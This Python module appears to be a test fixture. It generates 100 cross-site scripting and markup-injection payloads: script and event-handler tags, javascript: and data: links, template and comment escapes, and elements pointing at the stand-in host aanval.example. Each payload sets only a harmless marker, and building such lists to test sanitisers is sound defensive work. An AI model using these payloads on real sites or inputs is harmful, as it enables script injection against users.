"""A hundred texts that would act if a page, its search or its calendar took them for anything but text.

Each sets `window.raak`, or asks for a host that does not exist. They are the usual ways out of an element, an
attribute, a script, a style, a comment, a template, an address, a line of a calendar file and a line of Markdown.
"""

from itertools import product

_DOE = "window.raak=1"
_ELEMENTEN = (
    f"<script>{_DOE}</script>",
    f"<SCRIPT>{_DOE}</SCRIPT>",
    f"<script/x>{_DOE}</script>",
    f"<img src=x onerror={_DOE}>",
    f"<img src=x:x onerror='{_DOE}'>",
    f'<img src="x" onerror="{_DOE}"/>',
    f"<svg onload={_DOE}>",
    f"<svg/onload={_DOE}>",
    f"<svg><script>{_DOE}</script></svg>",
    f"<svg><animate onbegin={_DOE} attributeName=x dur=1s>",
    f"<details open ontoggle={_DOE}>",
    f"<body onload={_DOE}>",
    "<iframe srcdoc='<script>parent.raak=1</script>'></iframe>",
    "<iframe src=javascript:parent.raak=1></iframe>",
    f"<input autofocus onfocus={_DOE}>",
    f"<video><source onerror={_DOE}></video>",
    f"<math><mtext><style><img src=x onerror={_DOE}></style></mtext></math>",
    "<link rel=stylesheet href=https://aanval.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://aanval.example/'>",
    "<base href=https://aanval.example/>",
    "<object data=https://aanval.example/x></object>",
    "<form action=https://aanval.example/><button>x</button></form>",
)
# Out of what a text may stand in: an attribute, a title, a textarea, a style, a comment, a script, a CDATA.
_UITGANGEN = ('">', "'>", "</title>", "--></style></script>]]></textarea>")
_ANDERE = (
    f"${{{_DOE}}}",
    f"{{{{ {_DOE} }}}}",
    f"\u2028*/{_DOE}//",
    f"\\u003cscript\\u003e{_DOE}\\u003c/script\\u003e",
    f"&lt;img src=x onerror={_DOE}&gt;",
    f"%3Cscript%3E{_DOE}%3C/script%3E",
    f"[klik](javascript:{_DOE})",
    f"[klik](JaVaScRiPt:{_DOE})",
    f"[klik](&#106;avascript:{_DOE})",
    "[klik](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFhaz0xPC9zY3JpcHQ+)",
    f'![x](x"onerror="{_DOE})',
    f"`<script>{_DOE}</script>`",
)
AANVALLEN = (*_ELEMENTEN, *(uit + een for uit, een in product(_UITGANGEN, _ELEMENTEN)), *_ANDERE)[:100]
